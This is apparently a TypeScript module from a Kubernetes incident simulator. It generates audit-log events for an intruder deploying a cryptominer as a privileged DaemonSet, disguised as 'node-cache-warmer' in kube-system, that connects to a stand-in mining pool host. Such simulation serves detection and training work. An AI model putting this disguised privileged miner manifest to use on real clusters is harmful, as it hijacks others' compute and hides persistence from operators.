import type { Send } from '../api-request';
import { storedMetadata } from '../bodies';
import type { ClusterModel } from '../cluster-model';
import { controller, kubelet } from '../identities';
import type { Random } from '../random';
import { incidentTime, SECOND } from './incident-time';
import { intruderActor } from './service-account-takeover';

const NAME = 'node-cache-warmer';
const IMAGE = 'images.example.net/tools/warmer:latest';

/** Day 11, 00:20: the intruder puts a miner on every node, as a DaemonSet with a harmless name in kube-system. */
export function cryptominer(cluster: ClusterModel, random: Random, send: Send): void {
  const at = incidentTime(cluster, 11, '00:20');
  const namespace = 'kube-system';
  const actor = intruderActor(cluster, at);
  const template = {
    metadata: { labels: { app: NAME } },
    spec: {
      hostNetwork: true,
      tolerations: [{ operator: 'Exists' }],
      containers: [
        {
          name: 'warmer',
          image: IMAGE,
          args: ['--url=stratum+tcp://pool.example.net:3333', '--donate-level=0'],
          resources: { requests: { cpu: '3500m' } },
          securityContext: { privileged: true },
        },
      ],
    },
  };
  const body = {
    kind: 'DaemonSet',
    apiVersion: 'apps/v1',
    metadata: { name: NAME, namespace },
    spec: { selector: { matchLabels: { app: NAME } }, template },
  };
  const fields = { 'f:spec': { 'f:selector': {}, 'f:template': {} } };
  const metadata = storedMetadata(cluster, at, {
    resource: 'daemonsets',
    namespace,
    name: NAME,
    manager: 'curl',
    fields,
  });
  const object = { resource: 'daemonsets', namespace, name: NAME } as const;
  send({ at, actor, verb: 'create', ...object, requestObject: body, responseObject: { ...body, metadata } });

  const creator = controller(cluster, 'daemon-set-controller');
  cluster.nodesAt(at).forEach((node, index) => {
    const created = at + 300_000 + index * 40_000;
    const name = `${NAME}-${random.suffix(5)}`;
    const pod = {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: { generateName: `${NAME}-`, namespace },
      spec: { ...template.spec, nodeName: node.name },
    };
    send({
      at: created,
      actor: creator,
      verb: 'create',
      resource: 'pods',
      namespace,
      requestObject: pod,
      responseObject: pod,
    });
    send({
      at: created + 3 * SECOND,
      actor: kubelet(cluster, node),
      verb: 'patch',
      resource: 'pods',
      subresource: 'status',
      namespace,
      name,
    });
    send({
      at: created + 3 * SECOND,
      actor: kubelet(cluster, node),
      verb: 'create',
      resource: 'events',
      namespace,
      name: `${name}.${random.hex(16)}`,
    });
  });
  send({ at: at + 70 * SECOND, actor, verb: 'get', ...object });
}
